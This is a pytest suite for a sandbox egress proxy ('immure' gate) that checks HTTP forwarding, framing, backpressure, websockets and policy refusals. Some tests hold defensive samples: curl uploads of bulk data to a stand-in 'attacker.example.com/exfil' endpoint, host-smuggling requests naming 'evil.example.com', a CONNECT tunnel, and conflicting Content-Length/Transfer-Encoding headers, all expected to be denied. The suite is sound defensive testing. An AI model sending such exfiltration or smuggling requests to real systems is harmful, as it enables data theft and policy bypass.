"""One request and its answer, through a real gate to a server on loopback.

>> what the client sends    << what it gets    w: what the world sees and says
"""

import re
import threading
from collections.abc import Callable, Iterator
from contextlib import suppress

import pytest
from house import OK, POOL, TIMEOUT, Gate, Peer, World, allow, answering, hung_up, read_answer, world

from immure.gate.brief import Brief
from immure.gate.grants import Grants

HOST = "api.example.com"
Setting = tuple[Gate, World]


@pytest.fixture
def setting(open_gate: Callable[..., Gate]) -> Iterator[Setting]:
    """An allowed host that is served over TLS, without credentials."""
    with world(HOST) as served:
        gate = open_gate(
            lambda port: Brief(sandbox="box", grants=Grants(rules=(allow(HOST, port),)), upstreams=(served.upstream(HOST),), pool=POOL),
        )
        yield gate, served
        gate.hang_up()


def request(gate: Gate, *lines: str, start: str = "GET / HTTP/1.1", body: bytes = b"") -> bytes:
    return "".join(f"{line}\r\n" for line in (start, f"Host: {HOST}:{gate.port}", *lines, "")).encode() + body


# What the world answers, for a request by which method; what the client gets of it.
ANSWERS = [
    ("GET", OK, b"hello"),
    ("GET", b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nhel\r\n2;x\r\nlo\r\n0\r\n\r\n", b"hello"),
    ("GET", b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n", b""),
    ("GET", b"HTTP/1.1 204 No Content\r\n\r\n", b""),
    ("GET", b"HTTP/1.1 304 Not Modified\r\nETag: x\r\n\r\n", b""),
    ("HEAD", b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n", b""),
    ("GET", b"HTTP/1.1 103 Early Hints\r\n\r\n" + OK, b"hello"),
    ("DELETE", b"HTTP/1.1 500 Oops\r\nContent-Length: 4\r\n\r\noops", b"oops"),
]


@pytest.mark.parametrize(("method", "answer", "body"), ANSWERS)
def test_an_answer_comes_through_and_the_connection_serves_another(setting: Setting, method: str, answer: bytes, body: bytes) -> None:
    gate, served = setting
    served.scripts = [answering(answer)]
    with gate.connect_tls(HOST) as client:
        for _ in range(2):
            client.sendall(request(gate, start=f"{method} / HTTP/1.1"))
            head, got = read_answer(client)
            assert got == body
            assert head.splitlines()[0].split()[1] in answer
            assert gate.event()["http_response"]["code"] >= 200
    assert len(served.peers) == 1, "the connection upstream was not used again"


def test_an_answer_to_head_keeps_the_length_it_speaks_of(setting: Setting) -> None:
    gate, served = setting
    served.scripts = [answering(b"HTTP/1.1 200 OK\r\nContent-Length: 70000\r\n\r\n")]
    with gate.connect_tls(HOST) as client:
        client.sendall(request(gate, start="HEAD / HTTP/1.1"))
        assert b"\r\nContent-Length: 70000\r\n" in client.recv(65536)


def test_the_head_is_written_anew(setting: Setting) -> None:
    gate, served = setting
    served.scripts = [answering(OK)]
    with gate.connect_tls(HOST) as client:
        lines = ("accept:  */*", "Connection: keep-alive, x-hop", "X-Hop: 1", "Proxy-Authorization: Basic eA==", "TE: gzip")
        client.sendall(request(gate, *lines, start="GET /a?b=%20c HTTP/1.1"))
        read_answer(client)
    assert served.peers[0].heads[0].decode().splitlines() == ["GET /a?b=%20c HTTP/1.1", f"Host: {HOST}:{gate.port}", "accept: */*", ""]


def test_pipelined_requests_are_answered_in_order_one_at_a_time(setting: Setting) -> None:
    gate, served = setting
    numbered = [b"HTTP/1.1 200 OK\r\nContent-Length: 1\r\n\r\n%d" % number for number in range(4)]
    served.scripts = [answering(*numbered)]
    with gate.connect_tls(HOST) as client:
        client.sendall(b"".join(request(gate, start=f"GET /{number} HTTP/1.1") for number in range(4)))
        data = b""
        while not data.endswith(b"\r\n\r\n3"):
            data += client.recv(65536)
        assert data == b"".join(numbered)


def test_a_denied_request_among_pipelined_ones_takes_none_with_it(setting: Setting) -> None:
    gate, served = setting
    served.scripts = [answering(OK)]
    with gate.connect_tls(HOST) as client:
        client.sendall(request(gate) + request(gate, start="TRACE / HTTP/1.1") + request(gate))
        data = b""
        while data.count(b"hello") < 2:
            data += client.recv(65536)
    assert re.findall(rb"HTTP/1.1 (\d+)", data) == [b"200", b"405", b"200"]


def test_thousands_of_pipelined_refusals_neither_recurse_nor_pile_up(setting: Setting) -> None:
    gate, _ = setting
    count = 3000
    with gate.connect_tls(HOST) as client:
        gate.skip_events()
        sender = threading.Thread(target=client.sendall, args=(request(gate, start="TRACE / HTTP/1.1") * count,))
        sender.start()
        seen = 0
        while seen < count:
            seen += client.recv(1 << 16).count(b"HTTP/1.1 405")  # an answer is one record, so it comes in one piece
        sender.join(TIMEOUT)


def test_a_body_goes_up_in_the_framing_it_came_in(setting: Setting) -> None:
    gate, served = setting

    def script(peer: Peer) -> None:
        assert b"Content-Length: 5" in peer.head()
        assert peer.read(5) == b"hello"
        peer.send(OK)
        assert b"Transfer-Encoding: chunked" in peer.head()
        assert peer.until(b"0\r\nX-Sum: 1\r\n\r\n") == b"a\r\nhellohello\r\n0\r\nX-Sum: 1\r\n\r\n"
        peer.send(OK)

    served.scripts = [script]
    with gate.connect_tls(HOST) as client:
        client.sendall(request(gate, "Content-Length: 5", start="POST / HTTP/1.1", body=b"hello"))
        assert read_answer(client)[1] == b"hello"
        chunks = b"5\r\nhello\r\n5;ignored\r\nhello\r\n0\r\nX-Sum: 1\r\n\r\n"
        client.sendall(request(gate, "Transfer-Encoding: chunked", start="POST / HTTP/1.1", body=chunks))
        assert read_answer(client)[1] == b"hello"


def test_trailers_come_down(setting: Setting) -> None:
    gate, served = setting
    served.scripts = [answering(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-Sum\r\n\r\n1\r\na\r\n0\r\nX-Sum: 1\r\n\r\n")]
    with gate.connect_tls(HOST) as client:
        client.sendall(request(gate))
        data = b""
        while not data.endswith(b"\r\n\r\n") or b"0\r\n" not in data:
            data += client.recv(65536)
    assert data.endswith(b"1\r\na\r\n0\r\nX-Sum: 1\r\n\r\n")


def test_expect_continue_is_between_client_and_world(setting: Setting) -> None:
    gate, served = setting

    def script(peer: Peer) -> None:
        assert b"Expect: 100-continue" in peer.head()
        peer.send(b"HTTP/1.1 100 Continue\r\n\r\n")
        assert peer.read(5) == b"hello"
        peer.send(OK)

    served.scripts = [script]
    with gate.connect_tls(HOST) as client:
        client.sendall(request(gate, "Content-Length: 5", "Expect: 100-continue", start="POST / HTTP/1.1"))
        assert client.recv(65536).startswith(b"HTTP/1.1 100 ")
        client.sendall(b"hello")
        assert read_answer(client)[1] == b"hello"


def test_an_answer_that_comes_before_the_body_ends_the_connection(setting: Setting) -> None:
    gate, served = setting
    served.scripts = [answering(b"HTTP/1.1 413 Too Large\r\nContent-Length: 0\r\n\r\n")]
    with gate.connect_tls(HOST) as client:
        client.sendall(request(gate, "Content-Length: 5000000", start="POST / HTTP/1.1", body=b"x" * 100))
        head, _ = read_answer(client)
        assert head.startswith(b"HTTP/1.1 413")
        assert b"Connection: close" in head
        assert client.recv(1) == b""


def test_an_old_client_gets_an_answer_it_can_read(setting: Setting) -> None:
    gate, served = setting
    served.scripts = [
        answering(b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n")
    ]
    with gate.connect_tls(HOST) as client:
        client.sendall(b"GET / HTTP/1.0\r\n\r\n")
        data = b""
        while more := client.recv(65536):
            data += more
    assert data == b"HTTP/1.1 200 OK\r\nConnection: close\r\n\r\nhello"
    assert served.peers[0].heads[0].startswith(b"GET / HTTP/1.1\r\nHost: ")


def test_a_body_that_ends_with_the_connection_gets_an_end_of_its_own(setting: Setting) -> None:
    gate, served = setting

    def script(peer: Peer) -> None:
        peer.head()
        peer.send(b"HTTP/1.0 200 OK\r\n\r\nhel", b"lo")

    served.scripts = [script]
    with gate.connect_tls(HOST) as client:
        for _ in range(2):
            client.sendall(request(gate))
            head, body = read_answer(client)
            assert (body, b"Transfer-Encoding: chunked" in head) == (b"hello", True)


def test_an_event_is_passed_on_when_it_arrives_and_silence_is_no_end(setting: Setting) -> None:
    gate, served = setting
    proceed = threading.Semaphore(0)

    def script(peer: Peer) -> None:
        peer.head()
        peer.send(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\nTransfer-Encoding: chunked\r\n\r\n")
        for number in range(3):
            assert proceed.acquire(timeout=TIMEOUT)
            peer.send(b"9\r\ndata: %d\n\n\r\n" % number)
        peer.send(b"0\r\n\r\n")

    served.scripts = [script]
    with gate.connect_tls(HOST) as client:
        client.sendall(request(gate))
        assert client.recv(65536).startswith(b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n")
        for number in range(3):
            proceed.release()
            assert client.recv(65536).startswith(b"9\r\ndata: %d\n\n\r\n" % number)


@pytest.mark.parametrize(
    ("answer", "code"),
    [
        (b"", "upstream_closed"),
        (b"HTTP/1.1 200 OK\r\n", "upstream_closed"),
        (b"nonsense\r\n\r\n", "upstream_protocol"),
        (b"HTTP/1.1 200 OK\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n", "upstream_protocol"),
        (b"HTTP/1.1 101 Go\r\nUpgrade: websocket\r\nConnection: upgrade\r\n\r\n", "upstream_protocol"),
        (b"HTTP/1.1 200 OK\r\nX: " + b"x" * 70_000, "upstream_protocol"),
    ],
)
def test_an_answer_that_makes_no_sense_is_a_502(setting: Setting, answer: bytes, code: str) -> None:
    gate, served = setting

    def script(peer: Peer) -> None:
        peer.head()
        peer.send(answer)

    served.scripts = [script]
    with gate.connect_tls(HOST) as client:
        client.sendall(request(gate))
        head, body = read_answer(client)
        assert head.startswith(b"HTTP/1.1 502")
        assert f'"code": "{code}"'.encode() in body
    event = gate.event()
    assert (event["http_response"]["code"], event["status_id"], event["action"]) == (502, 2, "Allowed")


@pytest.mark.parametrize(
    "answer",
    [
        b"HTTP/1.1 200 OK\r\nContent-Length: 50\r\n\r\nhello",
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n",
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhellohello",
    ],
)
def test_an_answer_that_breaks_off_breaks_off_for_the_client(setting: Setting, answer: bytes) -> None:
    gate, served = setting

    def script(peer: Peer) -> None:
        peer.head()
        peer.send(answer)

    served.scripts = [script]
    with gate.connect_tls(HOST) as client:
        client.sendall(request(gate))
        data = b""
        while more := client.recv(65536):
            data += more
    assert b"Content-Length: 50" in data or not data.endswith(b"\r\n0\r\n\r\n")


@pytest.mark.parametrize(
    ("data", "status"),
    [
        (b"GET / HTTP/1.1\r\n\r\n", 400),
        (b"GET / HTTP/1.1\r\nHost: {host}\r\nHost: {host}\r\n\r\n", 400),
        (b"POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n", 400),
        (b"GET / HTTP/1.1\nHost: {host}\n\n", 400),
        (b"GET /" + b"a" * 20_000 + b" HTTP/1.1\r\nHost: {host}\r\n\r\n", 414),
        (b"GET / HTTP/1.1\r\nHost: {host}\r\nX: " + b"x" * 70_000, 431),
        (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 505),
        (b"GET / HTTP/1.1\r\nHost: evil.example.com\r\n\r\n", 421),
        (b"GET / HTTP/1.1\r\nHost: api.example.com\r\n\r\n", 421),
        (b"GET / HTTP/1.1\r\nHost:\r\n\r\n", 421),
        (b"GET https://evil.example.com/ HTTP/1.1\r\nHost: {host}\r\n\r\n", 421),
        (b"GET https://{host}/ HTTP/1.1\r\nHost: evil.example.com\r\n\r\n", 421),
        (b"GET http://{host}/ HTTP/1.1\r\nHost: {host}\r\n\r\n", 421),
        (b"CONNECT evil.example.com:443 HTTP/1.1\r\nHost: {host}\r\n\r\n", 405),
        (b"TRACE / HTTP/1.1\r\nHost: {host}\r\n\r\n", 405),
    ],
)
def test_a_request_that_is_refused_reaches_nobody(setting: Setting, data: bytes, status: int) -> None:
    gate, served = setting
    with gate.connect_tls(HOST) as client:
        client.sendall(data.replace(b"{host}", f"{HOST}:{gate.port}".encode()))
        head, body = read_answer(client)
        assert head.startswith(b"HTTP/1.1 %d " % status)
        assert b'"rule"' in body
    event = gate.event()
    assert (event["action"], event["http_response"]["code"]) == ("Denied", status)
    assert not served.peers


@pytest.mark.parametrize("spelling", ["API.Example.COM:{port}", "api.example.com.:{port}"])
def test_another_spelling_of_the_same_host_is_the_same_host(setting: Setting, spelling: str) -> None:
    gate, served = setting
    served.scripts = [answering(OK)]
    authority = spelling.format(port=gate.port)
    with gate.connect_tls(HOST) as client:
        client.sendall(f"GET https://{authority}/x HTTP/1.1\r\nHost: {authority}\r\n\r\n".encode())
        assert read_answer(client)[1] == b"hello"
    assert served.peers[0].heads[0].startswith(f"GET /x HTTP/1.1\r\nHost: {HOST}:{gate.port}\r\n".encode())


def test_a_slow_reader_holds_back_its_own_download_only(setting: Setting) -> None:
    gate, served = setting
    size = 64 << 20
    sent = 0

    def big(peer: Peer) -> None:
        nonlocal sent
        peer.head()
        peer.send(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % size)
        while sent < size:
            peer.send(b"x" * (1 << 16))
            sent += 1 << 16

    served.scripts = [big, answering(OK)]
    with gate.connect_tls(HOST) as slow:
        slow.sendall(request(gate))
        assert slow.recv(100).startswith(b"HTTP/1.1 200 OK")
        with gate.connect_tls(HOST) as other:
            for _ in range(50):
                other.sendall(request(gate))
                assert read_answer(other)[1] == b"hello"
        assert sent < size // 2, "the download was not held back"
        assert gate.private_memory() < 20 << 20
        received = 0
        while received < size - (1 << 16):
            received += len(slow.recv(1 << 20))


def test_a_slow_world_holds_back_an_upload(setting: Setting) -> None:
    gate, served = setting
    size = 32 << 20
    proceed = threading.Event()

    def slow(peer: Peer) -> None:
        peer.head()
        assert proceed.wait(TIMEOUT)
        peer.read(size)
        peer.send(OK)

    served.scripts = [slow]
    with gate.connect_tls(HOST) as client:
        client.sendall(request(gate, f"Content-Length: {size}", start="PUT / HTTP/1.1"))
        client.settimeout(0.3)
        sent = 0
        with suppress(TimeoutError):
            while sent < size:
                sent += client.send(b"y" * (1 << 14))
        client.settimeout(TIMEOUT)
        assert sent < size // 2, "the upload was not held back"
        assert gate.private_memory() < 20 << 20
        proceed.set()
        while sent < size:
            sent += client.send(b"y" * min(1 << 14, size - sent))
        assert read_answer(client)[1] == b"hello"


def test_a_client_that_leaves_takes_its_request_with_it(setting: Setting) -> None:
    gate, served = setting
    left = threading.Event()

    def script(peer: Peer) -> None:
        peer.head()
        if peer.closed():
            left.set()

    served.scripts = [script]
    with gate.connect_tls(HOST) as client:
        client.sendall(request(gate))
        served.wait_for_heads(1)
    assert left.wait(TIMEOUT)
    event = gate.event()
    assert "http_response" not in event
    assert "client closed" in event["status_detail"]


def test_a_websocket_is_carried_once_both_sides_have_agreed(setting: Setting) -> None:
    gate, served = setting

    def echo(peer: Peer) -> None:
        assert b"\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n" in peer.head()
        peer.send(b"HTTP/1.1 101 Switching\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: x\r\n\r\n\x81\x02hi")
        while True:
            peer.send(peer.read(4))

    served.scripts = [echo]
    with gate.connect_tls(HOST) as client:
        lines = ("Connection: keep-alive, Upgrade", "Upgrade: websocket", "Sec-WebSocket-Key: x", "Sec-WebSocket-Version: 13")
        client.sendall(request(gate, *lines) + b"\x81\x02ab")
        data = b""
        while not data.endswith(b"\x81\x02hi\x81\x02ab"):
            data += client.recv(65536)
        assert b"\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n" in data
        client.sendall(b"GET / HTTP/1.1\r\n\r\n  ")
        data = b""
        while len(data) < 20:
            data += client.recv(65536)
        assert data == b"GET / HTTP/1.1\r\n\r\n  "
    assert gate.event()["http_response"]["code"] == 101


def test_any_other_upgrade_is_not_asked_for(setting: Setting) -> None:
    gate, served = setting
    served.scripts = [answering(OK)]
    with gate.connect_tls(HOST) as client:
        client.sendall(request(gate, "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__"))
        assert read_answer(client)[1] == b"hello"
    assert b"pgrade" not in served.peers[0].heads[0]
    assert b"HTTP2-Settings" not in served.peers[0].heads[0]


def test_plain_http_where_policy_allows_it(open_gate: Callable[..., Gate]) -> None:
    with world(HOST, encrypted=False) as served:
        served.scripts = [answering(OK)]
        gate = open_gate(
            lambda port: Brief(sandbox="box", grants=Grants(rules=(allow(HOST, port),)), upstreams=(served.upstream(HOST),), pool=POOL)
        )
        ran = gate.curl(HOST, "/x", scheme="http")
        assert (ran.status, ran.stdout) == (0, b"hello")
        gate.hang_up()


def test_a_real_client_is_told_why(setting: Setting) -> None:
    gate, served = setting
    ran = gate.curl("attacker.example.com", "/exfil", "-d", "x" * 100_000, "-w", "%{http_code}")
    assert ran.status == 0
    assert ran.stdout.endswith(b"403")
    for word in (b"denied_by_policy", b"attacker.example.com", b"/curl", b'"default"', b"immure run --allow attacker.example.com:"):
        assert word in ran.stdout
    assert not served.peers


def test_a_large_upload_of_a_real_client_is_answered_before_it_is_through(setting: Setting) -> None:
    gate, _ = setting
    ran = gate.curl("attacker.example.com", "/exfil", "-T", "-", "-H", "Expect:", "-w", "%{http_code}", stdin=b"x" * (5 << 20))
    assert ran.stdout.endswith(b"403")


def test_a_download_of_a_real_client_is_whole(setting: Setting) -> None:
    gate, served = setting
    payload = bytes(range(256)) * (20 << 12)

    def script(peer: Peer) -> None:
        peer.head()
        peer.send(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
        for start in range(0, len(payload), 100_000):
            piece = payload[start : start + 100_000]
            peer.send(b"%x\r\n" % len(piece), piece, b"\r\n")
        peer.send(b"0\r\n\r\n")
        peer.head()

    served.scripts = [script]
    ran = gate.curl(HOST, "/big")
    assert ran.stdout == payload


def test_the_gate_ends_with_its_audit_trail(setting: Setting) -> None:
    gate, served = setting
    served.scripts = [answering(OK)]
    gate.close_audit()
    with gate.connect_tls(HOST) as client:
        client.sendall(request(gate))
        assert hung_up(client)
    gate.expect_death(status=74)
